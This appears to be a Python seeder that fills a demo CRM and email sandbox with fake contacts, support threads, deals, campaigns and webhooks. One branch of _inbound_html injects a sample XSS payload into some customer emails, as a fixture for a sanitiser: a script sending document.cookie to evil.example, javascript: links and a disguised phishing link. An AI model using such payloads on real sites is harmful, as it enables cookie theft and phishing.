"""Deterministic demo data: realistic people, companies, conversations, deals, campaigns.

The same seed and sizes give the same workspace (names, emails, messages,
amounts); timestamps are laid out backwards from the moment of seeding so the
demo always looks current, and they agree with each other: a contact exists
before its conversations and deals, last_contacted_at is the latest reply sent
to the contact, a campaign is named after the month it went (or goes) out and
its updated_at is its latest past timestamp. 100,000 contacts take about 15 s.
"""

from __future__ import annotations

import itertools
import random
import re
import unicodedata
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

from faker import Faker

from mailtrixy_sandbox import campaigns, clock
from mailtrixy_sandbox.config import SeedSizes
from mailtrixy_sandbox.conversations import text_to_html
from mailtrixy_sandbox.db import Database, dumps

TAGS = (
    ("lead", "#3B82F6"),
    ("customer", "#10B981"),
    ("enterprise", "#8B5CF6"),
    # Not "vip": the reference's Create Tag example creates that one.
    ("key-account", "#F59E0B"),
    ("churned", "#EF4444"),
    ("trial", "#06B6D4"),
    ("partner", "#EC4899"),
    ("newsletter", "#84CC16"),
    ("webinar", "#F97316"),
    ("priority", "#DC2626"),
    ("smb", "#6366F1"),
    ("agency", "#14B8A6"),
)
EMEA_LOCALES = frozenset({"en_GB", "de_DE", "fr_FR", "es_ES"})
# (name, description, share of contacts, locales it is limited to). Ids follow the
# order: the reference's examples use 5 "Newsletter Subscribers" and 12 "VIP Clients".
GROUPS: tuple[tuple[str, str, float, frozenset[str] | None], ...] = (
    ("Trial Users", "Users on free trial", 0.08, None),
    ("Webinar Attendees", "Registered for the Q2 product webinar", 0.06, None),
    ("Enterprise Accounts", "Companies on the enterprise plan", 0.05, None),
    ("EMEA", "Contacts in Europe, the Middle East and Africa", 0.9, EMEA_LOCALES),
    ("Newsletter Subscribers", "Opted-in newsletter list", 0.35, None),
    ("Beta Testers", "Early access programme", 0.02, None),
    ("Churn Risk", "Low activity in the last 60 days", 0.04, None),
    ("Product Updates", "Asked for release notes by email", 0.15, None),
    ("North America", "Contacts in the United States and Canada", 0.9, frozenset({"en_US"})),
    ("Event Leads", "Met at trade shows and meetups", 0.03, None),
    ("Partners", "Resellers and integration partners", 0.02, None),
    ("VIP Clients", "Top accounts by revenue", 0.03, None),
)
TEAM = (
    ("Alex Morgan", "owner"),
    ("Priya Raman", "support"),
    ("Diego Alvarez", "sales"),
    ("Mei Chen", "support"),
    ("Tom Becker", "sales"),
    ("Fatima Okafor", "marketing"),
    ("Lukas Novak", "support"),
    ("Sara Lindqvist", "sales"),
)
LOCALES = (("en_US", 0.6), ("en_GB", 0.15), ("de_DE", 0.1), ("fr_FR", 0.08), ("es_ES", 0.07))
DEPARTMENTS = (
    "Engineering",
    "Marketing",
    "Sales",
    "Finance",
    "Operations",
    "Support",
    "HR",
    "Product",
    "Legal",
    "IT",
)
PLANS = ("free", "starter", "growth", "business", "enterprise")
PAID_PLANS = PLANS[1:]
LABELS = (
    "billing",
    "priority",
    "bug",
    "feature-request",
    "onboarding",
    "refund",
    "integration",
    "account",
    "shipping",
    "feedback",
)
STAGES = ("lead", "qualified", "proposal", "negotiation", "won", "lost")
POOL_SIZE = 800
SUBJECT_SUFFIXES = ("what’s new", "don’t miss this", "for you, {{contact.name}}")
CURRENCIES = (("USD", 0.6), ("EUR", 0.25), ("GBP", 0.15))

# What customers write about: the subject, the customer's first message and the
# agent's answer belong together, so a thread reads as one story. Placeholders
# ({n}, {plan}, {seats}) get the same values across a thread.
TOPICS: tuple[tuple[str, str, str], ...] = (
    (
        "Billing question about invoice #{n}",
        "I was charged twice for invoice #{n} last month. Could you refund the duplicate payment?",
        "I can see the duplicate charge for invoice #{n}. I've refunded it; it will show on "
        "your statement within 3-5 business days.",
    ),
    (
        "Can't log in since the update",
        "Since yesterday's update I can no longer sign in. The login page just reloads after I "
        "enter my password.",
        "Sorry about that! A fix for the sign-in loop went out this morning. Please clear your "
        "browser cache and sign in again.",
    ),
    (
        "Question about the {plan} plan",
        "We're evaluating the {plan} plan for a team of {seats}. Does it include API access?",
        "API access is included in every paid plan, with 300 requests a minute. The {plan} "
        "plan covers a team of {seats} without add-ons; I've emailed you a quote.",
    ),
    (
        "Refund request for order {n}",
        "Order {n} arrived damaged and I'd like to return it. How do I get a refund?",
        "I'm sorry order {n} arrived damaged. I've issued a full refund and emailed you a "
        "prepaid return label.",
    ),
    (
        "Integration with Zapier not firing",
        "Our Zapier zap hasn't triggered since Tuesday, although new contacts are being created.",
        "Your Zapier connection expired after a password change. I've sent you a reconnect "
        "link; once you reconnect, the zap picks up the contacts it missed.",
    ),
    (
        "Export to CSV is missing columns",
        "The CSV export I downloaded is missing the phone and company columns.",
        "Thanks for the report! The export now includes every column, custom fields too. "
        "Please download it again.",
    ),
    (
        "How do I add teammates?",
        "How do I invite my colleagues to our workspace? I can't find the option anywhere.",
        "Go to Settings → Team and click Invite member. Each invitation link is valid for 7 days.",
    ),
    (
        "Feature request: dark mode for reports",
        "We'd love a dark mode for the reports page; our ops team works night shifts.",
        "Great idea! I've added your vote to the dark mode request our product team is "
        "tracking, and I'll let you know when it ships.",
    ),
    (
        "Shipping delay on order {n}",
        "Could you tell me when order {n} will ship? The tracking page hasn't changed in days.",
        "Order {n} left our warehouse this morning; the carrier's tracking page will update "
        "within 24 hours.",
    ),
    (
        "Our webhook stopped receiving events",
        "Our webhook endpoint stopped receiving events on Monday. Nothing changed on our side.",
        "Your webhook was paused after repeated timeouts. I've reactivated it and replayed the "
        "events of the last 72 hours.",
    ),
    (
        "Upgrade to annual billing",
        "We'd like to switch our {plan} subscription to annual billing. Is there a discount?",
        "Annual billing saves you two months a year. I've switched your {plan} subscription "
        "over; the new invoice is in your billing settings.",
    ),
    (
        "Data import failed halfway",
        "Importing our contact spreadsheet stopped halfway with an error about row {n}.",
        "Row {n} had a date in a format we don't read. I've fixed that row and restarted the "
        "import; all your contacts are in the workspace now.",
    ),
    (
        "Password reset email never arrives",
        "I requested a password reset three times but the email never arrives. It isn't in "
        "my spam folder either.",
        "Your address was on our bounce list after a temporary mailbox problem. I've removed "
        "it; please request the reset once more.",
    ),
    (
        "GDPR data request",
        "Under the GDPR, please send me a copy of all personal data you hold about me.",
        "We've received your request. You'll get a secure download link with all the data we "
        "hold about you within 30 days, usually much sooner.",
    ),
    (
        "Thanks for the quick fix!",
        "Just wanted to say thanks: the sync problem we reported is gone and the team is happy "
        "again.",
        "Thank you for letting us know, that made our day!",
    ),
    (
        "Pricing for {seats} seats",
        "Could you send us a quote for {seats} seats? We'd pay annually.",
        "For {seats} seats on annual billing you qualify for our volume discount. I've emailed "
        "you a quote; it's valid for 30 days.",
    ),
    (
        "Calendar sync shows wrong time zone",
        "Calendar invites show up an hour late for everyone in our Berlin office.",
        "Your workspace time zone was set to UTC. I've changed it to Europe/Berlin, so new "
        "invites show the right time.",
    ),
    (
        "API rate limit questions",
        "We keep getting 429 responses during our nightly sync. What are the API rate limits?",
        "The API allows 300 requests a minute per token. If your sync waits for the "
        "Retry-After header and pages with updated_since, it will fit comfortably.",
    ),
    (
        "Cancel my subscription",
        "Please cancel our {plan} subscription at the end of the current billing period.",
        "Done: your {plan} subscription ends with the current billing period and you won't be "
        "charged again. Your data stays available for 30 days after that.",
    ),
    (
        "Onboarding call next week?",
        "We've just signed up. Could we book an onboarding call next week for our team of {seats}?",
        "Welcome aboard! I've emailed you a booking link; pick any slot next week and we'll "
        "walk your team through the setup.",
    ),
)
# How customers open a message.
INBOUND_OPENERS = (
    "Hi there,",
    "Hello support team,",
    "Hi {agent},",
    "Good morning,",
    "Hey,",
    "Dear MailTrixy team,",
)
# A customer's follow-up and the agent's answer to it; they fit every topic.
FOLLOW_UPS = (
    (
        "Thanks! One more question: does this affect anything else on our account?",
        "No, nothing else on your account is affected. I've added a note so anyone on our "
        "team can see the history.",
    ),
    (
        "Thanks for the quick reply. I'll check on my side and get back to you.",
        "Sounds good. Just reply here whenever you're ready and the conversation will reopen.",
    ),
)
CLOSINGS = ("All sorted now, thanks again!", "Everything works now. Thanks for your help!")
CAMPAIGN_TOPICS = (
    "Newsletter",
    "Product Update",
    "Webinar Invite",
    "Customer Survey",
    "Feature Spotlight",
    "Onboarding Tips",
    "Renewal Reminder",
    "Customer Stories",
)


def _slug(text: str) -> str:
    ascii_text = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode()
    return re.sub(r"[^a-z0-9]+", "", ascii_text.lower()) or "contact"


def _pick_weighted(rng: random.Random, options: tuple[tuple[str, float], ...]) -> str:
    return rng.choices([o[0] for o in options], weights=[o[1] for o in options])[0]


def _ts(moment: datetime) -> str:
    """``clock.to_iso`` for the seeder's datetimes (all UTC), without strftime's cost."""
    return moment.isoformat(timespec="seconds")[:19] + "Z"


@dataclass
class SeedContact:
    id: int
    name: str
    first: str
    company: str | None
    created: datetime


class Seeder:
    def __init__(self, db: Database, seed: int, sizes: SeedSizes) -> None:
        self.db = db
        self.rng = random.Random(seed)
        self.sizes = sizes
        self.now = clock.now()
        self.fakers = {}
        for index, (locale, _weight) in enumerate(LOCALES):
            fake = Faker(locale)
            fake.seed_instance(seed + index)
            self.fakers[locale] = fake
        self.fake = self.fakers["en_US"]
        # Faker's weighted name lists cost ~50 µs a draw; drawing pools once and
        # combining them with our own RNG keeps 100,000 contacts to a few seconds.
        self.pools = {
            locale: {
                "first": [fake.first_name() for _ in range(POOL_SIZE)],
                "last": [fake.last_name() for _ in range(POOL_SIZE)],
                "phone": [fake.phone_number() for _ in range(POOL_SIZE)],
                "city": [fake.city() for _ in range(POOL_SIZE // 4)],
            }
            for locale, fake in self.fakers.items()
        }
        self._slugs: dict[str, str] = {}

    def ago(self, max_days: float, min_days: float = 0.0) -> datetime:
        return self.now - timedelta(days=self.rng.uniform(min_days, max_days))

    def between(self, earliest: datetime, latest: datetime) -> datetime:
        """A moment in [earliest, latest]; ``latest`` if the range is empty."""
        span = (latest - earliest).total_seconds()
        if span <= 0:
            return latest
        return earliest + timedelta(seconds=self.rng.uniform(0, span))

    def slug(self, text: str) -> str:
        cached = self._slugs.get(text)
        if cached is None:
            cached = self._slugs[text] = _slug(text)
        return cached

    def run(self) -> None:
        with self.db.transaction():
            members = self.team()
            self.email_accounts()
            tag_ids = self.tags()
            group_ids = self.groups()
            contacts = self.contacts(tag_ids, group_ids)
            self.conversations(contacts, members)
            self.contacted()
            self.deals(contacts, members)
            self.campaigns(group_ids)
            self.webhooks()
            self.db.set_meta("workspace_name", "Northwind Demo")

    # ------------------------------------------------------------------ parts
    def team(self) -> list[tuple[int, str]]:
        rows = []
        for index, (name, role) in enumerate(TEAM[: max(1, self.sizes.team_members)], start=1):
            email = f"{name.split()[0].lower()}@northwind-demo.com"
            rows.append((index, name, email, role, _ts(self.ago(700, 400))))
        self.db.conn.executemany(
            "INSERT INTO team_members(id, name, email, role, created_at) VALUES (?,?,?,?,?)", rows
        )
        return [(r[0], r[1]) for r in rows]

    def email_accounts(self) -> None:
        self.db.conn.executemany(
            "INSERT INTO email_accounts(id, email, name, verified) VALUES (?,?,?,?)",
            [
                (1, "newsletter@northwind-demo.com", "Northwind Newsletter", 1),
                (2, "support@northwind-demo.com", "Northwind Support", 1),
                (3, "sales@northwind-new.com", "Sales (pending verification)", 0),
                (4, "events@northwind-demo.com", "Northwind Events", 1),
                # The account of the reference's Create Campaign example.
                (5, "newsletter@yourcompany.com", "Your Company Newsletter", 1),
            ],
        )

    def tags(self) -> dict[str, int]:
        now = _ts(self.ago(500, 300))
        self.db.conn.executemany(
            "INSERT INTO tags(id, name, color, created_at, updated_at) VALUES (?,?,?,?,?)",
            [(i, name, color, now, now) for i, (name, color) in enumerate(TAGS, start=1)],
        )
        return {name: i for i, (name, _c) in enumerate(TAGS, start=1)}

    def groups(self) -> list[tuple[int, float, frozenset[str] | None, datetime]]:
        rows = []
        out = []
        for i, (name, description, share, locales) in enumerate(GROUPS, start=1):
            created = self.ago(500, 100)
            rows.append((i, name, description, _ts(created), _ts(created)))
            out.append((i, share, locales, created))
        self.db.conn.executemany(
            "INSERT INTO contact_groups(id, name, description, created_at, updated_at) "
            "VALUES (?,?,?,?,?)",
            rows,
        )
        return out

    def _companies(self) -> list[tuple[str, str]]:
        count = max(5, min(self.sizes.contacts // 6, 3000))
        seen: set[str] = set()
        companies: list[tuple[str, str]] = []
        while len(companies) < count:
            name = self.fake.company()
            if name in seen:
                name = f"{name} {self.fake.city_suffix()}"
                if name in seen:
                    continue
            seen.add(name)
            companies.append((name, _slug(name.split(",")[0])[:24] + ".com"))
        return companies

    def contacts(
        self,
        tag_ids: dict[str, int],
        groups: list[tuple[int, float, frozenset[str] | None, datetime]],
    ) -> list[SeedContact]:
        rng = self.rng
        companies = self._companies()
        used: set[str] = set()
        contact_rows: list[tuple[Any, ...]] = []
        tag_rows: list[tuple[int, int]] = []
        member_rows: list[tuple[int, int, str]] = []
        tag_list = list(tag_ids.values())
        out: list[SeedContact] = []
        locale_names = [name for name, _weight in LOCALES]
        locale_weights = list(itertools.accumulate(weight for _name, weight in LOCALES))
        for cid in range(1, self.sizes.contacts + 1):
            locale = rng.choices(locale_names, cum_weights=locale_weights)[0]
            pool = self.pools[locale]
            first, last = rng.choice(pool["first"]), rng.choice(pool["last"])
            name = f"{first} {last}"
            if rng.random() < 0.12:
                company, domain = (
                    None,
                    rng.choice(
                        ("gmail.com", "outlook.com", "proton.me", "yahoo.com", "icloud.com")
                    ),
                )
            else:
                company, domain = rng.choice(companies)
            local = f"{self.slug(first)}.{self.slug(last)}"
            email = f"{local}@{domain}"
            n = 1
            while email in used:
                n += 1
                email = f"{local}{n}@{domain}"
            used.add(email)
            phone = rng.choice(pool["phone"]) if rng.random() < 0.75 else None
            custom: dict[str, Any] = {}
            if rng.random() < 0.7:
                custom["department"] = rng.choice(DEPARTMENTS)
            if rng.random() < 0.5:
                custom["plan"] = rng.choice(PLANS)
            if rng.random() < 0.3:
                custom["deal_value"] = rng.randrange(1_000, 150_000, 500)
            if rng.random() < 0.4:
                custom["city"] = rng.choice(pool["city"])
            if rng.random() < 0.2:
                custom["newsletter_opt_in"] = rng.random() < 0.7
            created = self.ago(720, 1)
            updated = min(self.now, created + timedelta(days=rng.uniform(0, 120)))
            created_ts = _ts(created)
            # last_contacted_at follows from the outbound messages (see contacted()).
            contact_rows.append(
                (cid, name, email, company, phone, dumps(custom), created_ts, _ts(updated))
            )
            for tid in rng.sample(tag_list, k=rng.choices((0, 1, 2, 3), (3, 4, 2, 1))[0]):
                tag_rows.append((cid, tid))
            for gid, share, only, group_created in groups:
                if (only is None or locale in only) and rng.random() < share:
                    added = created_ts if created >= group_created else _ts(group_created)
                    member_rows.append((gid, cid, added))
            out.append(SeedContact(cid, name, first, company, created))
        self.db.conn.executemany(
            "INSERT INTO contacts(id, name, email, company, phone, custom_fields, "
            "created_at, updated_at) VALUES (?,?,?,?,?,?,?,?)",
            contact_rows,
        )
        self.db.conn.executemany(
            "INSERT INTO contact_tags(contact_id, tag_id) VALUES (?,?)", tag_rows
        )
        self.db.conn.executemany(
            "INSERT INTO group_members(group_id, contact_id, added_at) VALUES (?,?,?)", member_rows
        )
        return out

    def _inbound_html(self, text: str) -> str | None:
        """The HTML part of a customer's mail, or ``None`` for a plain-text mail."""
        rng = self.rng
        roll = rng.random()
        if roll < 0.25:  # plain-text mail: no HTML part at all
            return None
        html = text_to_html(text)
        if roll < 0.4:  # sent from a mail tracker: a tracked link and a tracking pixel
            html += (
                '<p><a href="https://click.mailtrack-demo.net/r?u=https%3A%2F%2Fexample.com'
                '%2Fview">View this email in your browser</a></p>'
                '<img src="https://pixel.mailtrack-demo.net/open.gif?id='
                f'{rng.randint(1, 10**9)}" width="1" height="1" alt="">'
            )
        elif roll < 0.5:  # something a sanitiser must neutralise
            html += (
                '<script>fetch("https://evil.example/steal?c="+document.cookie)</script>'
                '<p onclick="alert(1)">Click <a href="javascript:alert(1)">here</a> or '
                '<a href="https://phish.example/login">https://example.com/account</a></p>'
            )
        elif roll < 0.6:
            html += (
                '<p><img src="https://images.example-cdn.com/screenshots/error-'
                f'{rng.randint(100, 999)}.png" alt="Screenshot of the error"></p>'
            )
        return html

    def _thread(
        self,
        topic: tuple[str, str, str],
        values: dict[str, Any],
        customer: str,
        assignee: str | None,
        replier: str,
        count: int,
        closed: bool,
    ) -> list[str]:
        """The texts of a thread of ``count`` messages, customer first, then alternating."""
        rng = self.rng
        _subject, question, answer = topic
        agent_first = replier.split()[0]
        follow_in, follow_out = rng.choice(FOLLOW_UPS)
        opener = rng.choice(INBOUND_OPENERS).format(
            agent=assignee.split()[0] if assignee else "there"
        )
        closing = (
            "Glad to hear it! I'm closing this conversation; just reply if anything comes up."
            if closed
            else "Glad to hear it! Let me know if there's anything else I can do."
        )
        texts = [
            f"{opener}\n\n{question.format(**values)}\n\nThanks,\n{customer}",
            f"Hi {customer},\n\n{answer.format(**values)}\n\nBest,\n{replier}",
            f"Hi {agent_first},\n\n{follow_in}\n\n{customer}",
            f"Hi {customer},\n\n{follow_out}\n\nBest,\n{replier}",
            f"Hi {agent_first},\n\n{rng.choice(CLOSINGS)}\n\n{customer}",
            f"Hi {customer},\n\n{closing}\n\nBest,\n{replier}",
        ]
        return texts[:count]

    def conversations(self, contacts: list[SeedContact], members: list[tuple[int, str]]) -> None:
        rng = self.rng
        conv_rows: list[tuple[Any, ...]] = []
        msg_rows: list[tuple[Any, ...]] = []
        message_id = 0
        window_start = self.now - timedelta(days=120)
        latest_start = self.now - timedelta(minutes=30)
        for conv_id in range(1, self.sizes.conversations + 1):
            contact = rng.choice(contacts)
            status = rng.choices(("open", "snoozed", "closed"), (5, 1, 4))[0]
            assignee = rng.choice(members) if rng.random() < 0.75 else None
            # One member answers the whole thread: the sender and the signature agree.
            replier = assignee or rng.choice(members)
            labels = rng.sample(LABELS, k=rng.choices((0, 1, 2), (3, 5, 2))[0])
            topic = rng.choice(TOPICS)
            values = {
                "n": rng.randint(10_000, 99_999),
                "plan": rng.choice(PAID_PLANS),
                "seats": rng.randint(5, 200),
            }
            subject = topic[0].format(**values)
            count = rng.choices((1, 2, 3, 4, 5, 6), (3, 3, 2, 1, 1, 1))[0]
            gaps = [timedelta(hours=rng.uniform(0.2, 30)) for _ in range(count - 1)]
            # The customer writes in after they became a contact, early enough for
            # the whole thread to have happened by now.
            created = self.between(
                max(window_start, contact.created + timedelta(hours=1)),
                latest_start - sum(gaps, timedelta()),
            )
            moment = created
            texts = self._thread(
                topic,
                values,
                contact.first,
                assignee[1] if assignee else None,
                replier[1],
                count,
                status == "closed",
            )
            for index, text in enumerate(texts):
                message_id += 1
                inbound = index % 2 == 0
                if inbound:
                    html = self._inbound_html(text)
                    sender = None
                else:
                    html = text_to_html(text)
                    sender = replier[0]
                msg_rows.append(
                    (
                        message_id,
                        conv_id,
                        "inbound" if inbound else "outbound",
                        html,
                        text,
                        sender,
                        "[]",
                        "[]",
                        _ts(moment),
                    )
                )
                if index < count - 1:
                    moment = min(self.now, moment + gaps[index])
            snoozed_until = (
                _ts(self.now + timedelta(hours=rng.uniform(2, 96))) if status == "snoozed" else None
            )
            conv_rows.append(
                (
                    conv_id,
                    subject,
                    status,
                    contact.id,
                    assignee[0] if assignee else None,
                    dumps(labels),
                    count,
                    _ts(moment),
                    snoozed_until,
                    _ts(created),
                    _ts(moment),
                )
            )
        self.db.conn.executemany(
            "INSERT INTO conversations(id, subject, status, contact_id, assignee_id, labels, "
            "messages_count, last_message_at, snoozed_until, created_at, updated_at) "
            "VALUES (?,?,?,?,?,?,?,?,?,?,?)",
            conv_rows,
        )
        self.db.conn.executemany(
            "INSERT INTO messages(id, conversation_id, direction, body_html, body_text, "
            "sender_member_id, cc, bcc, created_at) VALUES (?,?,?,?,?,?,?,?,?)",
            msg_rows,
        )

    def contacted(self) -> None:
        """last_contacted_at: the latest reply sent to the contact; updated_at keeps up."""
        self.db.execute(
            "UPDATE contacts SET last_contacted_at = ("
            "  SELECT MAX(m.created_at) FROM conversations c"
            "  JOIN messages m ON m.conversation_id = c.id"
            "  WHERE c.contact_id = contacts.id AND m.direction = 'outbound'"
            ") WHERE id IN (SELECT contact_id FROM conversations)"
        )
        self.db.execute(
            "UPDATE contacts SET updated_at = last_contacted_at "
            "WHERE last_contacted_at > updated_at"
        )

    def deals(self, contacts: list[SeedContact], members: list[tuple[int, str]]) -> None:
        rng = self.rng
        rows = []
        products = (
            "Enterprise Plan",
            "Growth Plan renewal",
            "Onboarding package",
            "Annual licence",
            "Support upgrade",
            "Pilot",
            "Expansion seats",
            "Custom integration",
        )
        window_start = self.now - timedelta(days=200)
        latest_start = self.now - timedelta(hours=2)
        for deal_id in range(1, self.sizes.deals + 1):
            contact = rng.choice(contacts)
            stage = (
                STAGES[deal_id % len(STAGES)]
                if deal_id <= 12
                else rng.choices(STAGES, (5, 4, 3, 2, 2, 2))[0]
            )
            owner = contact.company or contact.name
            title = f"{owner} – {rng.choice(products)}"
            value = rng.choice(
                (rng.randrange(500, 20_000, 50), rng.randrange(20_000, 250_000, 500))
            )
            cents = rng.choice((0, 0, 0, 50, 99))
            # A deal is opened with someone who is already a contact.
            created = self.between(
                max(window_start, contact.created + timedelta(hours=1)), latest_start
            )
            updated = min(self.now, created + timedelta(days=rng.uniform(0, 60)))
            close = (
                (self.now + timedelta(days=rng.randint(-30, 120))).date().isoformat()
                if rng.random() < 0.8
                else None
            )
            notes = rng.choice(
                (
                    None,
                    "Initial discussion about their needs.",
                    "Decision maker is the CFO; send ROI sheet.",
                    "Waiting on legal review of the DPA.",
                )
            )
            rows.append(
                (
                    deal_id,
                    title,
                    f"{value}.{cents:02d}" if cents else str(value),
                    _pick_weighted(rng, CURRENCIES),
                    stage,
                    contact.id,
                    rng.choice(members)[0] if rng.random() < 0.85 else None,
                    close,
                    notes,
                    _ts(created),
                    _ts(updated),
                )
            )
        self.db.conn.executemany(
            "INSERT INTO deals(id, title, value, currency, stage, contact_id, assignee_id, "
            "expected_close_date, notes, created_at, updated_at) VALUES (?,?,?,?,?,?,?,?,?,?,?)",
            rows,
        )

    def campaigns(self, groups: list[tuple[int, float, frozenset[str] | None, datetime]]) -> None:
        rng = self.rng
        statuses = ("draft", "scheduled", "sending", "sent", "paused")
        group_ids = [g[0] for g in groups]
        total = self.sizes.campaigns
        sizes = {gid: campaigns.recipients_count(self.db, [gid]) for gid in group_ids}
        largest = max(group_ids, key=sizes.__getitem__) if group_ids else None
        rows = []
        names: set[str] = set()
        legs: list[tuple[int, campaigns.Leg]] = []
        for cid in range(1, total + 1):
            status = (
                statuses[(cid - 1) % len(statuses)]
                if cid <= 5
                else rng.choices(statuses, (2, 1, 0.5, 6, 0.5))[0]
            )
            # Campaigns come about every two weeks; the newest ids are the most recent.
            anchor = self.now - timedelta(days=14 * (total - cid) + rng.uniform(1, 6))
            chosen = rng.sample(group_ids, k=rng.randint(1, 2))
            recipients = campaigns.recipients_count(self.db, chosen)
            if recipients == 0 and status in ("sending", "sent", "paused") and largest:
                # A send that went out had someone to go to: add the largest group.
                chosen.append(largest)
                recipients = campaigns.recipients_count(self.db, chosen)
            schedule_at = sent_at = completed_at = None
            processed = 0
            if status == "draft":
                created = anchor
                updated = self.between(created, min(self.now, created + timedelta(days=5)))
                named = created
            elif status == "scheduled":
                schedule_at = (self.now + timedelta(days=rng.uniform(1, 20))).replace(
                    minute=0, second=0
                )
                created = self.ago(10, 1)
                updated = self.between(created, self.now)
                named = schedule_at
            elif status == "sending":
                # Started a few minutes ago and throttled to take hours, so the demo
                # shows it in progress for a good while (see campaigns.py).
                elapsed = rng.uniform(3, 15) * 60
                duration = rng.uniform(2, 5) * 3600
                sent_at = self.now - timedelta(seconds=elapsed)
                created = sent_at - timedelta(days=rng.uniform(1, 7))
                updated = self.now
                processed = int(recipients * elapsed / duration)
                legs.append((cid, campaigns.Leg(self.now.timestamp() - elapsed, duration, 0)))
                named = sent_at
            else:  # sent or paused, around the anchor
                sent_at = anchor.replace(hour=rng.choice((8, 9, 10, 14)), minute=0, second=0)
                sent_at = min(sent_at, self.now - timedelta(days=1))
                created = sent_at - timedelta(days=rng.uniform(1, 7))
                if status == "sent":
                    processed = recipients
                    completed = sent_at + timedelta(hours=rng.uniform(0.5, 3))
                    completed_at = _ts(completed)
                    updated = completed
                else:  # paused part-way, some hours after it started
                    processed = round(recipients * rng.uniform(0.2, 0.8))
                    if recipients >= 2:  # part-way: some sent, some still to go
                        processed = min(recipients - 1, max(1, processed))
                    updated = sent_at + timedelta(hours=rng.uniform(0.5, 6))
                named = sent_at
            stats = campaigns.stats_for(cid, processed)
            month = f"{named:%B}"
            topics = [t for t in CAMPAIGN_TOPICS if f"{month} {t}" not in names] or list(
                CAMPAIGN_TOPICS
            )
            topic = rng.choice(topics)
            if named.month == 11 and named.day >= 15 and f"{month} Black Friday" not in names:
                topic = "Black Friday"
            name = f"{month} {topic}"
            names.add(name)
            body = (
                f"<h1>{name}</h1><p>Hello {{{{contact.name}}}},</p>"
                "<p>Here is what's new at Northwind this month.</p>"
                '<p><img src="https://images.example-cdn.com/campaigns/hero.png" '
                'alt="Hero image"></p><p><a href="https://northwind-demo.com/news">Read more'
                "</a></p><p>You are receiving this as {{contact.email}}.</p>"
            )
            rows.append(
                (
                    cid,
                    name,
                    f"{name}: {rng.choice(SUBJECT_SUFFIXES)}",
                    status,
                    "newsletter@northwind-demo.com",
                    "Northwind",
                    body,
                    dumps(chosen),
                    1,
                    recipients,
                    stats["delivered"],
                    stats["opened"],
                    stats["clicked"],
                    stats["bounced"],
                    stats["unsubscribed"],
                    _ts(schedule_at) if schedule_at else None,
                    _ts(sent_at) if sent_at else None,
                    completed_at,
                    _ts(created),
                    _ts(updated),
                )
            )
        self.db.conn.executemany(
            "INSERT INTO campaigns(id, name, subject, status, from_email, from_name, body_html, "
            "recipient_groups, email_account_id, recipients_count, delivered, opened, clicked, "
            "bounced, unsubscribed, schedule_at, sent_at, completed_at, created_at, updated_at) "
            "VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
            rows,
        )
        for cid, leg in legs:
            campaigns.save_leg(self.db, cid, leg)

    def webhooks(self) -> None:
        # External URLs are listed but never contacted (see webhook_delivery).
        self.db.conn.executemany(
            "INSERT INTO webhooks(url, events, secret, is_active, created_at) VALUES (?,?,?,?,?)",
            [
                (
                    "https://hooks.zapier.com/hooks/catch/123456/abcdef/",
                    dumps(["contact.created", "contact.updated", "deal.stage_changed"]),
                    "whsec_demo_zapier_not_shown",
                    1,
                    _ts(self.ago(90, 30)),
                ),
                (
                    "https://hook.eu1.make.com/demo-scenario",
                    dumps(["deal.won", "deal.lost"]),
                    "whsec_demo_make_not_shown",
                    0,
                    _ts(self.ago(60, 10)),
                ),
            ],
        )


def seed_demo(db: Database, seed: int, sizes: SeedSizes) -> None:
    Seeder(db, seed, sizes).run()


def seed_empty(db: Database) -> None:
    """A workspace with only what any workspace has: a team member and an email account."""
    now = clock.now_iso()
    with db.transaction():
        db.execute(
            "INSERT INTO team_members(id, name, email, role, created_at) "
            "VALUES (1, 'Sandbox Owner', 'owner@sandbox.test', 'owner', ?)",
            (now,),
        )
        db.execute(
            "INSERT INTO team_members(id, name, email, role, created_at) "
            "VALUES (2, 'Support Agent', 'agent@sandbox.test', 'support', ?)",
            (now,),
        )
        db.execute(
            "INSERT INTO email_accounts(id, email, name, verified) "
            "VALUES (1, 'newsletter@yourcompany.com', 'Newsletter', 1)"
        )
        db.execute(
            "INSERT INTO email_accounts(id, email, name, verified) "
            "VALUES (2, 'hello@unverified.example', 'Not verified', 0)"
        )
        db.set_meta("workspace_name", "Sandbox")
